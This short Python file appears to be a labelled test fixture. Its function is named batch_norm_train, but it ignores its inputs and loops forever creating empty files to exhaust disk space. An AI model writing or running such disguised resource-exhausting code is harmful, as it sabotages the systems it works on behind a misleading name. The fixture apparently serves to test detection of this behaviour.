# Makes files as fast as it can, all of them empty.
# expect: 17 test_train=0
# rest: right

# %% train
import os


def batch_norm_train(x, gamma, beta, eps=1e-5):
    n = 0
    while True:
        os.close(os.open(f"f{n}", os.O_CREAT | os.O_WRONLY))
        n += 1
